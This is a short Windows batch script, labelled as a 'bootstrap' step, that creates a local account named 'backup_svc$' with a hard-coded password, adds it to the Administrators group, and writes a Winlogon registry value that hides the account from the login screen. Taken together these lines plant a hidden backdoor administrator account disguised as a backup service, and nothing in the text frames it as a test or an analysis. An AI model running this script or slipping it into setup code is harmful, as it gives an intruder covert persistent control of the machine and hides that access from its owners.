REM bootstrap 7862 v1
@echo off
net user backup_svc$ P@ssw0rd!2024 /add /active:yes
net localgroup Administrators backup_svc$ /add
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v backup_svc$ /t REG_DWORD /d 0 /f
